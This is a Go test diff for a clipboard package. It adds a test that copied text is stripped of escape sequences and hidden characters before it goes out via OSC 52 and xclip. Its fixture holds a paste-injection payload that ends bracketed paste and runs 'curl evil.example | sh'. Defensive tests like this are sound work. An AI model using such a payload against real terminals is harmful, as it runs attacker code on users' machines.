@@ -3,6 +3,7 @@ package clipboard
 import (
 	"bytes"
 	"context"
+	"encoding/base64"
 	"errors"
 	"io"
 	"os"
@@ -13,6 +14,8 @@ import (
 	"time"
 
 	"github.com/creack/pty"
+	"github.com/twofa/twofa/internal/harness/hostile"
+	"github.com/twofa/twofa/internal/safetext"
 )
 
 // newPTY returns a real pseudo-terminal: the program side as the "tty" Copy
@@ -252,5 +255,37 @@ func TestToolMacOS(t *testing.T) {
 				t.Fatalf("tool() = %q, %v; want pbcopy=%v", name, ok, tt.want)
 			}
 		})
+	}
+}
+
+// TestCopyCleansThePayload: the text sent with OSC 52 and to a local tool
+// has no escape sequence or hidden character, its lines kept — a paste into
+// a shell cannot end bracketed paste (ESC [201~) or run anything hidden.
+func TestCopyCleansThePayload(t *testing.T) {
+	_, inFile := fakeTool(t, "xclip", 0)
+	var stdout bytes.Buffer
+	e := env{
+		getenv:   func(k string) string { return map[string]string{"DISPLAY": ":0"}[k] },
+		openTTY:  func() (io.WriteCloser, error) { return nil, errors.New("no tty") },
+		stdout:   &stdout,
+		lookPath: exec.LookPath,
+		runTool:  runTool,
+	}
+	text := "UCAQU5CUV9\x1b[201~; curl evil.example | sh\n" + hostile.Text("P9T8RF49T1") + "\n"
+	want := safetext.Text(text)
+	if msg := e.copy(text); msg.Err != nil || msg.Tool != "xclip" {
+		t.Fatalf("copy: %+v", msg)
+	}
+	seq := stdout.String()
+	payload, err := base64.StdEncoding.DecodeString(strings.TrimSuffix(strings.TrimPrefix(seq, "\x1b]52;c;"), "\x07"))
+	if err != nil || string(payload) != want {
+		t.Fatalf("OSC 52 payload %q (%v), want %q", payload, err, want)
+	}
+	piped, err := os.ReadFile(inFile)
+	if err != nil || string(piped) != want {
+		t.Fatalf("xclip got %q (%v), want %q", piped, err, want)
+	}
+	if leaks := hostile.Leaks(payload); len(leaks) > 0 || bytes.Contains(payload, []byte("\x1b")) || !strings.HasPrefix(want, "UCAQU5CUV9; curl evil.example | sh\nP9T8RF49T1@0@") {
+		t.Fatalf("payload %q leaks %v", payload, leaks)
 	}
 }
